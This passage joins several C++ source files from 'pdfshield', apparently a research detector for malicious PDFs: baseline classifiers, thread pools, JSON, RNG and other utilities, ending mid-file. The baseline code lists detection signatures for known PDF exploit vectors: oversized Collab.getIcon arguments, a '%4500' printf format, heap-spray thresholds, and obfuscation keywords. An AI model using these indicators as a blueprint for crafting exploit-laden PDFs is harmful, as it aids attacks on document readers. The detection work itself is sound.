//                     on the extracted Javascript, no execution.
//   OursBaseline    — the full pdfshield pipeline (front-end + reader +
//                     runtime detector) behind the same interface.
#pragma once

#include "baselines/baseline.hpp"

namespace pdfshield::baselines {

class MdscanBaseline : public Baseline {
 public:
  std::string name() const override { return "MDScan [9]"; }
  void train(const std::vector<corpus::Sample>& samples) override;
  int predict(support::BytesView file) override;

  /// Spray-memory threshold (physical engine bytes).
  std::size_t spray_threshold_bytes = 1u << 20;
};

class WepawetBaseline : public Baseline {
 public:
  std::string name() const override { return "Wepawet [18]"; }
  void train(const std::vector<corpus::Sample>& samples) override;
  int predict(support::BytesView file) override;

  double threshold = 3.0;  ///< suspicion score cutoff
};

class OursBaseline : public Baseline {
 public:
  std::string name() const override { return "Ours (pdfshield)"; }
  void train(const std::vector<corpus::Sample>& samples) override;
  int predict(support::BytesView file) override;

  std::string reader_version = "9.0";
};

}  // namespace pdfshield::baselines
