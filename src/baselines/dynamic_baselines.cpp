#include "baselines/dynamic_baselines.hpp"

#include <cmath>

#include "core/detector.hpp"
#include "core/jschain.hpp"
#include "core/pipeline.hpp"
#include "js/interp.hpp"
#include "pdf/parser.hpp"
#include "reader/reader_sim.hpp"
#include "support/checksum.hpp"
#include "support/strings.hpp"
#include "sys/kernel.hpp"

namespace pdfshield::baselines {

using support::BytesView;

namespace {

std::vector<std::string> extract_scripts(BytesView file) {
  std::vector<std::string> scripts;
  try {
    pdf::Document doc = pdf::parse_document(file);
    for (const auto& site : core::analyze_js_chains(doc).sites) {
      if (!site.source.empty()) scripts.push_back(site.source);
    }
  } catch (const support::Error&) {
  }
  return scripts;
}

}  // namespace

// ---------------------------------------------------------------------------
// MdscanBaseline
// ---------------------------------------------------------------------------

void MdscanBaseline::train(const std::vector<corpus::Sample>&) {
  // Purely dynamic: nothing to fit.
}

int MdscanBaseline::predict(BytesView file) {
  const std::vector<std::string> scripts = extract_scripts(file);
  if (scripts.empty()) return 0;

  // Bare engine: Acrobat stubs record exploit-shaped calls, but there is
  // no real document behind them — the extract-and-emulate weakness.
  js::Interpreter engine;
  engine.set_step_limit(5'000'000);
  bool exploit_call = false;

  auto flag_if = [&exploit_call](bool cond) {
    if (cond) exploit_call = true;
  };
  auto stub_obj = [&](const char* class_name) {
    auto obj = js::make_object();
    obj->class_name = class_name;
    return obj;
  };

  auto app = stub_obj("App");
  app->set("viewerVersion", js::Value(9.0));
  app->set("alert", js::Value(js::make_native_function(
                        [](js::Interpreter&, const js::Value&,
                           const std::vector<js::Value>&) { return js::Value(); })));
  app->set("setTimeOut",
           js::Value(js::make_native_function(
               [](js::Interpreter& in, const js::Value&,
                  const std::vector<js::Value>& args) {
                 // Emulators run timers immediately.
                 if (!args.empty() && args[0].is_string()) {
                   try {
                     in.eval_in_current_scope(args[0].as_string());
                   } catch (const js::JsException&) {
                   } catch (const support::Error&) {
                   }
                 }
                 return js::Value();
               })));
  engine.set_global("app", js::Value(app));

  auto collab = stub_obj("Collab");
  collab->set("getIcon",
              js::Value(js::make_native_function(
                  [&](js::Interpreter& in, const js::Value&,
                      const std::vector<js::Value>& args) {
                    flag_if(!args.empty() &&
                            in.to_js_string(args[0]).size() > 1024);
                    return js::Value(js::Null{});
                  })));
  engine.set_global("Collab", js::Value(collab));

  auto util = stub_obj("Util");
  util->set("printf", js::Value(js::make_native_function(
                          [&](js::Interpreter& in, const js::Value&,
                              const std::vector<js::Value>& args) {
                            const std::string fmt =
                                args.empty() ? "" : in.to_js_string(args[0]);
                            flag_if(support::contains(fmt, "%4500") ||
                                    fmt.size() > 1024);
                            return js::Value("");
                          })));
  util->set("printd", js::Value(js::make_native_function(
                          [](js::Interpreter&, const js::Value&,
                             const std::vector<js::Value>&) {
                            return js::Value("2014-06-23");
                          })));
  engine.set_global("util", js::Value(util));
  auto soap = stub_obj("SOAP");
  soap->set("request", js::Value(js::make_native_function(
                           [](js::Interpreter&, const js::Value&,
                              const std::vector<js::Value>&) {
                             return js::Value(js::Null{});
                           })));
  engine.set_global("SOAP", js::Value(soap));
  // NOTE: deliberately no Doc binding — `this.info`, getField, media and
  // addScript are unavailable, exactly like extraction-based execution.

  for (const std::string& script : scripts) {
    try {
      engine.run_source(script);
    } catch (const js::JsException&) {
      // Context-dependent code dies here; MDScan loses the trail.
    } catch (const support::Error&) {
    }
  }

  const bool sprayed = engine.allocated_bytes() >= spray_threshold_bytes;
  return (sprayed || exploit_call) ? 1 : 0;
}

// ---------------------------------------------------------------------------
// WepawetBaseline
// ---------------------------------------------------------------------------

void WepawetBaseline::train(const std::vector<corpus::Sample>&) {}

int WepawetBaseline::predict(BytesView file) {
  const std::vector<std::string> scripts = extract_scripts(file);
  if (scripts.empty()) return 0;
  std::string all;
  for (const auto& s : scripts) all += s;

  double score = 0;
  auto count = [&all](const char* needle) {
    double n = 0;
    std::size_t pos = 0;
    const std::string pattern(needle);
    while ((pos = all.find(pattern, pos)) != std::string::npos) {
      n += 1;
      pos += pattern.size();
    }
    return n;
  };

  score += 2.0 * std::min(2.0, count("unescape"));
  score += 1.0 * std::min(3.0, count("eval("));
  score += 1.0 * std::min(2.0, count("fromCharCode"));
  score += 1.5 * std::min(2.0, count("%u"));
  // Long single-line scripts with huge literals smell like shellcode.
  std::size_t longest_literal = 0, current = 0;
  bool in_string = false;
  char quote = 0;
  for (char c : all) {
    if (in_string) {
      if (c == quote) {
        in_string = false;
        longest_literal = std::max(longest_literal, current);
      } else {
        ++current;
      }
    } else if (c == '\'' || c == '"') {
      in_string = true;
      quote = c;
      current = 0;
    }
  }
  if (longest_literal > 4096) score += 2.0;
  if (longest_literal > 256) score += 1.0;
  if (count("while") > 0 && count("+=") > 0) score += 1.0;  // doubling loop

  return score >= threshold ? 1 : 0;
}

// ---------------------------------------------------------------------------
// OursBaseline
// ---------------------------------------------------------------------------

void OursBaseline::train(const std::vector<corpus::Sample>&) {
  // Thresholds/weights are the paper's fixed configuration (Table VII);
  // no learning involved.
}

int OursBaseline::predict(BytesView file) {
  sys::Kernel kernel;
  support::Rng rng(support::fnv1a64(file));  // deterministic per file
  core::RuntimeDetector detector(kernel, rng);
  core::FrontEnd frontend(rng, detector.detector_id());
  reader::ReaderConfig reader_cfg;
  reader_cfg.version = reader_version;
  reader::ReaderSim reader(kernel, reader_cfg);
  detector.attach(reader);

  core::FrontEndResult fe = frontend.process(file);
  if (!fe.ok) return 0;
  detector.register_document(fe.record.key, "sample.pdf", fe.features);
  reader.open_document(fe.output, "sample.pdf");
  return detector.verdict(fe.record.key).malicious ? 1 : 0;
}

}  // namespace pdfshield::baselines
