// Fully static baselines of Table IX:
//   NgramBaseline       — embedded-malware byte n-grams [16][17]
//   PjscanBaseline      — lexical Javascript tokens + one-class model [7]
//   StructuralBaseline  — hierarchical structural paths + linear SVM [5]
//   PdfrateBaseline     — metadata/structural features + random forest [4]
//   JsStaticBaseline    — our jsstatic abstract-interpretation pass used
//                         as a standalone, training-free detector
#pragma once

#include "baselines/baseline.hpp"
#include "ml/dataset.hpp"
#include "ml/linear_svm.hpp"
#include "ml/naive_bayes.hpp"
#include "ml/one_class.hpp"
#include "ml/random_forest.hpp"

namespace pdfshield::baselines {

/// Hashed byte-bigram frequencies -> Bernoulli naive Bayes.
class NgramBaseline : public Baseline {
 public:
  std::string name() const override { return "N-grams [17]"; }
  void train(const std::vector<corpus::Sample>& samples) override;
  int predict(support::BytesView file) override;

  static ml::FeatureVector features(support::BytesView file);

 private:
  ml::NaiveBayes model_;
};

/// Lexical token statistics of extracted Javascript, one-class model
/// trained on the malicious class (PJScan's OCSVM design).
class PjscanBaseline : public Baseline {
 public:
  std::string name() const override { return "PJScan [7]"; }
  void train(const std::vector<corpus::Sample>& samples) override;
  int predict(support::BytesView file) override;

  /// Token-statistics vector of a document's concatenated Javascript;
  /// empty optional when no Javascript can be extracted.
  static bool features(support::BytesView file, ml::FeatureVector* out);

 private:
  ml::OneClassCentroid model_;
};

/// Structural paths (root-to-key sequences) as binary features -> SVM.
class StructuralBaseline : public Baseline {
 public:
  std::string name() const override { return "Structural [5]"; }
  void train(const std::vector<corpus::Sample>& samples) override;
  int predict(support::BytesView file) override;

 private:
  ml::FeatureVector vectorize(support::BytesView file) const;

  std::vector<std::string> vocabulary_;
  ml::LinearSvm model_;
};

/// The jsstatic abstract interpreter as a detector: resolves strings that
/// reach eval/setTimeOut sinks, folds escapes and concat loops, and scores
/// the resulting indicator facts (shellcode, NOP sled, heap-spray loop,
/// sink payloads, obfuscation). Training-free — train() is a no-op — so it
/// doubles as a fixed reference row next to the learned baselines.
class JsStaticBaseline : public Baseline {
 public:
  std::string name() const override { return "JS-static (ours)"; }
  void train(const std::vector<corpus::Sample>& samples) override;
  int predict(support::BytesView file) override;

  /// Indicator score at or above which a document is convicted.
  double threshold = 2.0;
};

/// Metadata + structural summary features -> random forest.
class PdfrateBaseline : public Baseline {
 public:
  std::string name() const override { return "PDFRate [4]"; }
  void train(const std::vector<corpus::Sample>& samples) override;
  int predict(support::BytesView file) override;

  static ml::FeatureVector features(support::BytesView file);

 private:
  ml::RandomForest model_;
};

}  // namespace pdfshield::baselines
