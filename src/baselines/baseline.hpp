// Common interface for the Table-IX comparison detectors. Each baseline
// trains on labelled samples and classifies raw file bytes (it never sees
// ground truth at prediction time).
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "corpus/generator.hpp"
#include "support/bytes.hpp"

namespace pdfshield::baselines {

class Baseline {
 public:
  virtual ~Baseline() = default;

  virtual std::string name() const = 0;

  /// Trains on a labelled corpus (static learners fit models; heuristic
  /// and dynamic baselines may ignore this).
  virtual void train(const std::vector<corpus::Sample>& samples) = 0;

  /// 1 = malicious.
  virtual int predict(support::BytesView file) = 0;
};

}  // namespace pdfshield::baselines
