#include "support/strings.hpp"

#include <cctype>
#include <cstdio>

namespace pdfshield::support {

std::vector<std::string> split(std::string_view text, char delim) {
  std::vector<std::string> out;
  std::size_t start = 0;
  while (true) {
    std::size_t pos = text.find(delim, start);
    if (pos == std::string_view::npos) {
      out.emplace_back(text.substr(start));
      break;
    }
    out.emplace_back(text.substr(start, pos - start));
    start = pos + 1;
  }
  return out;
}

std::string join(const std::vector<std::string>& parts, std::string_view sep) {
  std::string out;
  for (std::size_t i = 0; i < parts.size(); ++i) {
    if (i) out.append(sep);
    out.append(parts[i]);
  }
  return out;
}

std::string_view trim(std::string_view text) {
  std::size_t b = 0;
  std::size_t e = text.size();
  while (b < e && std::isspace(static_cast<unsigned char>(text[b]))) ++b;
  while (e > b && std::isspace(static_cast<unsigned char>(text[e - 1]))) --e;
  return text.substr(b, e - b);
}

std::string replace_all(std::string_view text, std::string_view from,
                        std::string_view to) {
  if (from.empty()) return std::string(text);
  std::string out;
  out.reserve(text.size());
  std::size_t start = 0;
  while (true) {
    std::size_t pos = text.find(from, start);
    if (pos == std::string_view::npos) {
      out.append(text.substr(start));
      return out;
    }
    out.append(text.substr(start, pos - start));
    out.append(to);
    start = pos + from.size();
  }
}

std::string to_lower(std::string_view text) {
  std::string out(text);
  for (char& c : out) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return out;
}

bool contains(std::string_view text, std::string_view needle) {
  return text.find(needle) != std::string_view::npos;
}

std::string format_double(double value, int digits) {
  char buf[64];
  std::snprintf(buf, sizeof(buf), "%.*f", digits, value);
  std::string out(buf);
  if (out.find('.') != std::string::npos) {
    while (!out.empty() && out.back() == '0') out.pop_back();
    if (!out.empty() && out.back() == '.') out.pop_back();
  }
  return out;
}

}  // namespace pdfshield::support
