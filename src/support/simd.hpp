// Runtime SIMD dispatch policy for the byte-level hot paths (lexer token
// scanning, flate LZ77 copies, checksums).
//
// Policy: every vectorized routine in the tree has a scalar/SWAR fallback
// that is always compiled and always correct; the vector path is an
// opportunistic accelerator selected once per process. Dispatch sites read
// `active_level()` (a cached CPUID probe) and branch — no function-pointer
// tables, so the branch predicts perfectly and the fallback stays a live,
// testable code path rather than dead weight.
//
// `PDFSHIELD_DISABLE_SIMD=1` in the environment pins the process to the
// scalar fallback (CI runs the whole tier-1 suite once this way, so both
// legs of every dispatch stay green). Tests that want to compare the two
// legs in-process use `override_level()` instead of the environment, which
// is only sampled once.
#pragma once

#include <cstdint>

namespace pdfshield::support::simd {

/// Instruction-set tiers the dispatch sites distinguish. Levels are
/// ordered: a level implies every level below it.
enum class Level : std::uint8_t {
  kScalar = 0,  ///< portable scalar/SWAR fallback, always available
  kSSSE3 = 1,   ///< 16-byte pshufb classification + SSE2 loads/stores
  kAVX2 = 2,    ///< 32-byte integer SIMD
};

/// The level selected for this process: the highest tier the CPU supports,
/// or kScalar when PDFSHIELD_DISABLE_SIMD=1 (sampled on first call and
/// cached). Cheap enough to call per scan: one relaxed atomic load.
Level active_level();

/// True when `active_level() >= wanted` — the idiom dispatch sites use.
inline bool have(Level wanted) {
  return static_cast<std::uint8_t>(active_level()) >=
         static_cast<std::uint8_t>(wanted);
}

/// Test hook: pins `active_level()` to `level` (clamped to what the CPU
/// actually supports — requesting AVX2 on a non-AVX2 host yields the best
/// available tier instead). Returns the previously active level so tests
/// can restore it.
Level override_level(Level level);

/// The highest tier this CPU supports, ignoring the environment toggle and
/// any test override.
Level detected_level();

}  // namespace pdfshield::support::simd
