// Work-stealing worker pool: each worker owns a deque of tasks and pops
// from its own bottom (LIFO, cache-warm); a worker whose deque runs dry
// steals one task from the top of a sibling's deque (FIFO — the oldest,
// coldest work moves). Steal granularity is one task (one document), so a
// skewed workload — one worker's deque stacked with decompression bombs
// while its siblings idle — rebalances at document boundaries instead of
// serializing behind the unlucky worker.
//
// This replaces the bounded-queue ThreadPool: a single shared queue is a
// contention point every task acquisition must cross, and it cannot
// express locality (serve-mode endpoints pin related work to one worker's
// deque and let stealing handle imbalance). submit() still applies
// backpressure — it blocks while `queue_capacity` tasks are queued but
// unstarted — so batch producers keep their bounded-memory guarantee.
// Serve mode sizes the capacity above its admission-control bound instead,
// so its open-loop submitters never block here.
//
// Header-only so benches and tools can reuse it; used by
// core::BatchScanner and core::ScanService.
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstddef>
#include <cstdint>
#include <deque>
#include <functional>
#include <memory>
#include <mutex>
#include <thread>
#include <vector>

#include "support/error.hpp"

namespace pdfshield::support {

class WorkStealingPool {
 public:
  /// Spawns `workers` threads (at least 1). `queue_capacity` bounds the
  /// number of queued-but-unstarted tasks across all deques; 0 means
  /// 2 * workers.
  explicit WorkStealingPool(std::size_t workers,
                            std::size_t queue_capacity = 0)
      : capacity_(queue_capacity ? queue_capacity
                                 : 2 * (workers ? workers : 1)) {
    if (workers == 0) workers = 1;
    deques_.reserve(workers);
    for (std::size_t i = 0; i < workers; ++i) {
      deques_.push_back(std::make_unique<Deque>());
    }
    threads_.reserve(workers);
    for (std::size_t i = 0; i < workers; ++i) {
      threads_.emplace_back([this, i] { worker_loop(i); });
    }
  }

  WorkStealingPool(const WorkStealingPool&) = delete;
  WorkStealingPool& operator=(const WorkStealingPool&) = delete;

  ~WorkStealingPool() {
    {
      std::unique_lock<std::mutex> lock(mutex_);
      stop_ = true;
    }
    not_empty_.notify_all();
    not_full_.notify_all();
    for (auto& t : threads_) t.join();
  }

  std::size_t worker_count() const { return threads_.size(); }

  /// Index of the calling pool worker in [0, worker_count()), or -1 when
  /// called from outside the pool. Lets tasks reach per-worker state
  /// (e.g. one FrontEnd + one reusable arena per worker) without locking.
  static int current_worker() { return tl_worker_index_; }

  /// Enqueues a task on the next deque round-robin; blocks while
  /// `queue_capacity` tasks are queued but unstarted. Must not be called
  /// from a worker thread (a full queue would deadlock).
  void submit(std::function<void()> task) {
    submit_to(next_.fetch_add(1, std::memory_order_relaxed) % deques_.size(),
              std::move(task));
  }

  /// Enqueues a task on a specific worker's deque (same backpressure).
  /// The pin is a placement hint, not an affinity guarantee: any idle
  /// sibling may steal the task. Tests use this to build maximally skewed
  /// backlogs; endpoints may use it for locality.
  void submit_to(std::size_t worker, std::function<void()> task) {
    {
      std::unique_lock<std::mutex> lock(mutex_);
      if (stop_) throw LogicError("WorkStealingPool::submit after shutdown");
      not_full_.wait(lock,
                     [this] { return queued_ < capacity_ || stop_; });
      if (stop_) throw LogicError("WorkStealingPool::submit after shutdown");
      ++queued_;
      ++unfinished_;
    }
    {
      Deque& dq = *deques_[worker % deques_.size()];
      std::lock_guard<std::mutex> lock(dq.mutex);
      dq.tasks.push_back(std::move(task));
    }
    not_empty_.notify_one();
  }

  /// Blocks until every submitted task has finished executing.
  void wait_idle() {
    std::unique_lock<std::mutex> lock(mutex_);
    idle_.wait(lock, [this] { return unfinished_ == 0; });
  }

  /// Tasks executed by a worker other than the one they were submitted to.
  std::uint64_t steals() const {
    return steals_.load(std::memory_order_relaxed);
  }

  /// Tasks queued but not yet started (the scheduler backlog). Serve-mode
  /// degradation keys off this depth.
  std::size_t queued() const {
    std::lock_guard<std::mutex> lock(mutex_);
    return queued_;
  }

 private:
  struct Deque {
    std::mutex mutex;
    std::deque<std::function<void()>> tasks;
  };

  void worker_loop(std::size_t index) {
    tl_worker_index_ = static_cast<int>(index);
    for (;;) {
      std::function<void()> task;
      if (!acquire(index, task)) return;
      task();
      std::unique_lock<std::mutex> lock(mutex_);
      if (--unfinished_ == 0) idle_.notify_all();
    }
  }

  /// Pops from the own deque's bottom, else steals from a sibling's top,
  /// else sleeps. Returns false when the pool is stopping and fully
  /// drained.
  bool acquire(std::size_t me, std::function<void()>& task) {
    for (;;) {
      if (pop_bottom(me, task)) {
        took_one();
        return true;
      }
      for (std::size_t off = 1; off < deques_.size(); ++off) {
        if (pop_top((me + off) % deques_.size(), task)) {
          steals_.fetch_add(1, std::memory_order_relaxed);
          took_one();
          return true;
        }
      }
      std::unique_lock<std::mutex> lock(mutex_);
      if (queued_ > 0) continue;  // raced a submit mid-push; rescan
      if (stop_) return false;
      not_empty_.wait(lock, [this] { return queued_ > 0 || stop_; });
      if (queued_ == 0 && stop_) return false;
    }
  }

  bool pop_bottom(std::size_t worker, std::function<void()>& task) {
    Deque& dq = *deques_[worker];
    std::lock_guard<std::mutex> lock(dq.mutex);
    if (dq.tasks.empty()) return false;
    task = std::move(dq.tasks.back());
    dq.tasks.pop_back();
    return true;
  }

  bool pop_top(std::size_t worker, std::function<void()>& task) {
    Deque& dq = *deques_[worker];
    std::lock_guard<std::mutex> lock(dq.mutex);
    if (dq.tasks.empty()) return false;
    task = std::move(dq.tasks.front());
    dq.tasks.pop_front();
    return true;
  }

  void took_one() {
    std::lock_guard<std::mutex> lock(mutex_);
    --queued_;
    not_full_.notify_one();
  }

  static thread_local int tl_worker_index_;

  const std::size_t capacity_;
  mutable std::mutex mutex_;  ///< guards queued_/unfinished_/stop_
  std::condition_variable not_empty_;
  std::condition_variable not_full_;
  std::condition_variable idle_;
  std::vector<std::unique_ptr<Deque>> deques_;
  std::atomic<std::size_t> next_{0};
  std::atomic<std::uint64_t> steals_{0};
  std::size_t queued_ = 0;      ///< submitted but not yet started
  std::size_t unfinished_ = 0;  ///< submitted but not yet completed
  bool stop_ = false;
  std::vector<std::thread> threads_;
};

inline thread_local int WorkStealingPool::tl_worker_index_ = -1;

}  // namespace pdfshield::support
