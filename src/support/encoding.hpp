// Hex and base64 codecs. Used by the instrumenter (script encryption
// payloads), the PDF ASCIIHex filter, and report output.
#pragma once

#include <string>
#include <string_view>

#include "support/bytes.hpp"

namespace pdfshield::support {

/// Lowercase hex encoding of `data` (two chars per byte).
std::string hex_encode(BytesView data);

/// Decodes a hex string; whitespace is ignored. Throws DecodeError on a
/// non-hex character or odd digit count.
Bytes hex_decode(std::string_view text);

/// Standard base64 (RFC 4648) with '=' padding.
std::string base64_encode(BytesView data);

/// Decodes base64; whitespace is ignored. Throws DecodeError on invalid
/// characters or bad padding.
Bytes base64_decode(std::string_view text);

}  // namespace pdfshield::support
