// Basic byte-buffer vocabulary types shared across all pdfshield modules.
#pragma once

#include <cstddef>
#include <cstdint>
#include <span>
#include <string>
#include <string_view>
#include <vector>

namespace pdfshield::support {

/// Owning byte buffer. PDF content is binary-safe, so all document data
/// travels as Bytes rather than std::string.
using Bytes = std::vector<std::uint8_t>;

/// Non-owning view over immutable bytes.
using BytesView = std::span<const std::uint8_t>;

/// Copies a string's characters into a byte buffer (no encoding applied).
inline Bytes to_bytes(std::string_view s) {
  return Bytes(s.begin(), s.end());
}

/// Interprets a byte buffer as Latin-1 text (each byte one char).
inline std::string to_string(BytesView b) {
  return std::string(b.begin(), b.end());
}

/// Appends `tail` to `dst`.
inline void append(Bytes& dst, BytesView tail) {
  dst.insert(dst.end(), tail.begin(), tail.end());
}

/// Appends the characters of `tail` to `dst`.
inline void append(Bytes& dst, std::string_view tail) {
  dst.insert(dst.end(), tail.begin(), tail.end());
}

/// String-view over a byte buffer without copying.
inline std::string_view as_view(BytesView b) {
  return {reinterpret_cast<const char*>(b.data()), b.size()};
}

}  // namespace pdfshield::support
