// Fixed-size worker pool over a bounded task queue. submit() applies
// backpressure (blocks) when the queue is full, so a producer enumerating
// a huge corpus never buffers more than `queue_capacity` closures. Used by
// core::BatchScanner; header-only so benches and tools can reuse it.
#pragma once

#include <condition_variable>
#include <cstddef>
#include <deque>
#include <functional>
#include <mutex>
#include <thread>
#include <vector>

#include "support/error.hpp"

namespace pdfshield::support {

class ThreadPool {
 public:
  /// Spawns `workers` threads (at least 1). `queue_capacity` bounds the
  /// number of queued-but-unstarted tasks; 0 means 2 * workers.
  explicit ThreadPool(std::size_t workers, std::size_t queue_capacity = 0)
      : capacity_(queue_capacity ? queue_capacity
                                 : 2 * (workers ? workers : 1)) {
    if (workers == 0) workers = 1;
    threads_.reserve(workers);
    for (std::size_t i = 0; i < workers; ++i) {
      threads_.emplace_back([this, i] { worker_loop(static_cast<int>(i)); });
    }
  }

  ThreadPool(const ThreadPool&) = delete;
  ThreadPool& operator=(const ThreadPool&) = delete;

  ~ThreadPool() {
    {
      std::unique_lock<std::mutex> lock(mutex_);
      stop_ = true;
    }
    not_empty_.notify_all();
    not_full_.notify_all();
    for (auto& t : threads_) t.join();
  }

  std::size_t worker_count() const { return threads_.size(); }

  /// Index of the calling pool worker in [0, worker_count()), or -1 when
  /// called from outside the pool. Lets tasks reach per-worker state
  /// (e.g. one FrontEnd per worker) without locking.
  static int current_worker() { return tl_worker_index_; }

  /// Enqueues a task; blocks while the queue is at capacity. Must not be
  /// called from a worker thread (a full queue would deadlock).
  void submit(std::function<void()> task) {
    {
      std::unique_lock<std::mutex> lock(mutex_);
      if (stop_) throw LogicError("ThreadPool::submit after shutdown");
      not_full_.wait(lock,
                     [this] { return queue_.size() < capacity_ || stop_; });
      if (stop_) throw LogicError("ThreadPool::submit after shutdown");
      queue_.push_back(std::move(task));
      ++unfinished_;
    }
    not_empty_.notify_one();
  }

  /// Blocks until every submitted task has finished executing.
  void wait_idle() {
    std::unique_lock<std::mutex> lock(mutex_);
    idle_.wait(lock, [this] { return unfinished_ == 0; });
  }

 private:
  void worker_loop(int index) {
    tl_worker_index_ = index;
    for (;;) {
      std::function<void()> task;
      {
        std::unique_lock<std::mutex> lock(mutex_);
        not_empty_.wait(lock, [this] { return !queue_.empty() || stop_; });
        if (queue_.empty()) return;  // stop_ set and queue drained
        task = std::move(queue_.front());
        queue_.pop_front();
      }
      not_full_.notify_one();
      task();
      {
        std::unique_lock<std::mutex> lock(mutex_);
        if (--unfinished_ == 0) idle_.notify_all();
      }
    }
  }

  static thread_local int tl_worker_index_;

  const std::size_t capacity_;
  std::mutex mutex_;
  std::condition_variable not_empty_;
  std::condition_variable not_full_;
  std::condition_variable idle_;
  std::deque<std::function<void()>> queue_;
  std::size_t unfinished_ = 0;
  bool stop_ = false;
  std::vector<std::thread> threads_;
};

inline thread_local int ThreadPool::tl_worker_index_ = -1;

}  // namespace pdfshield::support
