#include "support/json.hpp"

#include <cmath>
#include <cstdio>

#include "support/error.hpp"

namespace pdfshield::support {

Json& Json::operator[](const std::string& key) {
  if (kind_ == Kind::kNull) kind_ = Kind::kObject;
  if (kind_ != Kind::kObject) throw LogicError("Json: not an object");
  for (auto& [k, v] : fields_) {
    if (k == key) return v;
  }
  fields_.emplace_back(key, Json());
  return fields_.back().second;
}

void Json::push_back(Json value) {
  if (kind_ == Kind::kNull) kind_ = Kind::kArray;
  if (kind_ != Kind::kArray) throw LogicError("Json: not an array");
  items_.push_back(std::move(value));
}

namespace {

void escape_into(std::string& out, const std::string& s) {
  out.push_back('"');
  for (char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof(buf), "\\u%04x", c);
          out += buf;
        } else {
          out.push_back(c);
        }
    }
  }
  out.push_back('"');
}

}  // namespace

void Json::dump_to(std::string& out, int indent, int depth) const {
  const std::string pad = indent > 0 ? std::string(
                                           static_cast<std::size_t>(indent * (depth + 1)), ' ')
                                     : "";
  const std::string close_pad =
      indent > 0 ? std::string(static_cast<std::size_t>(indent * depth), ' ') : "";
  const char* nl = indent > 0 ? "\n" : "";

  switch (kind_) {
    case Kind::kNull:
      out += "null";
      return;
    case Kind::kBool:
      out += bool_ ? "true" : "false";
      return;
    case Kind::kNumber: {
      if (number_ == std::floor(number_) && std::abs(number_) < 1e15) {
        out += std::to_string(static_cast<long long>(number_));
      } else {
        char buf[40];
        std::snprintf(buf, sizeof(buf), "%.12g", number_);
        out += buf;
      }
      return;
    }
    case Kind::kString:
      escape_into(out, string_);
      return;
    case Kind::kObject: {
      if (fields_.empty()) {
        out += "{}";
        return;
      }
      out += "{";
      out += nl;
      for (std::size_t i = 0; i < fields_.size(); ++i) {
        out += pad;
        escape_into(out, fields_[i].first);
        out += indent > 0 ? ": " : ":";
        fields_[i].second.dump_to(out, indent, depth + 1);
        if (i + 1 < fields_.size()) out += ",";
        out += nl;
      }
      out += close_pad;
      out += "}";
      return;
    }
    case Kind::kArray: {
      if (items_.empty()) {
        out += "[]";
        return;
      }
      out += "[";
      out += nl;
      for (std::size_t i = 0; i < items_.size(); ++i) {
        out += pad;
        items_[i].dump_to(out, indent, depth + 1);
        if (i + 1 < items_.size()) out += ",";
        out += nl;
      }
      out += close_pad;
      out += "]";
      return;
    }
  }
}

std::string Json::dump(int indent) const {
  std::string out;
  dump_to(out, indent, 0);
  return out;
}

}  // namespace pdfshield::support
