#include "support/rng.hpp"

namespace pdfshield::support {

namespace {

std::uint64_t splitmix64(std::uint64_t& x) {
  x += 0x9e3779b97f4a7c15ULL;
  std::uint64_t z = x;
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
  return z ^ (z >> 31);
}

std::uint64_t rotl(std::uint64_t x, int k) {
  return (x << k) | (x >> (64 - k));
}

}  // namespace

Rng::Rng(std::uint64_t seed) {
  // Expand the single seed through splitmix64 per the xoshiro authors'
  // recommendation; guarantees a non-zero state.
  std::uint64_t sm = seed;
  for (auto& s : s_) s = splitmix64(sm);
}

std::uint64_t Rng::next_u64() {
  const std::uint64_t result = rotl(s_[1] * 5, 7) * 9;
  const std::uint64_t t = s_[1] << 17;
  s_[2] ^= s_[0];
  s_[3] ^= s_[1];
  s_[1] ^= s_[2];
  s_[0] ^= s_[3];
  s_[2] ^= t;
  s_[3] = rotl(s_[3], 45);
  return result;
}

std::uint64_t Rng::uniform(std::uint64_t lo, std::uint64_t hi) {
  if (lo > hi) throw LogicError("Rng::uniform: lo > hi");
  const std::uint64_t span = hi - lo + 1;  // span==0 means the full 2^64 range
  if (span == 0) return next_u64();
  // Rejection sampling to avoid modulo bias.
  const std::uint64_t limit = span * (UINT64_MAX / span);
  std::uint64_t x;
  do {
    x = next_u64();
  } while (x >= limit);
  return lo + x % span;
}

double Rng::uniform01() {
  // 53 high bits -> double in [0,1).
  return static_cast<double>(next_u64() >> 11) * 0x1.0p-53;
}

Bytes Rng::bytes(std::size_t n) {
  Bytes out(n);
  std::size_t i = 0;
  while (i + 8 <= n) {
    std::uint64_t x = next_u64();
    for (int b = 0; b < 8; ++b) out[i++] = static_cast<std::uint8_t>(x >> (8 * b));
  }
  if (i < n) {
    std::uint64_t x = next_u64();
    while (i < n) {
      out[i++] = static_cast<std::uint8_t>(x);
      x >>= 8;
    }
  }
  return out;
}

std::string Rng::hex_string(std::size_t n) {
  static const char kHex[] = "0123456789abcdef";
  std::string out;
  out.reserve(n);
  for (std::size_t i = 0; i < n; ++i) out.push_back(kHex[below(16)]);
  return out;
}

std::string Rng::identifier(std::size_t n) {
  static const char kAlpha[] = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";
  static const char kAlnum[] =
      "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_";
  if (n == 0) return {};
  std::string out;
  out.reserve(n);
  out.push_back(kAlpha[below(sizeof(kAlpha) - 1)]);
  for (std::size_t i = 1; i < n; ++i) out.push_back(kAlnum[below(sizeof(kAlnum) - 1)]);
  return out;
}

Rng Rng::fork() {
  return Rng(next_u64());
}

}  // namespace pdfshield::support
