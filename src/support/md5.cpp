#include "support/md5.hpp"

#include <cstring>

#include "support/encoding.hpp"

namespace pdfshield::support {

namespace {

constexpr std::uint32_t kInit[4] = {0x67452301, 0xefcdab89, 0x98badcfe,
                                    0x10325476};

// Per-round shift amounts.
constexpr int kShift[64] = {7, 12, 17, 22, 7, 12, 17, 22, 7, 12, 17, 22,
                            7, 12, 17, 22, 5, 9,  14, 20, 5, 9,  14, 20,
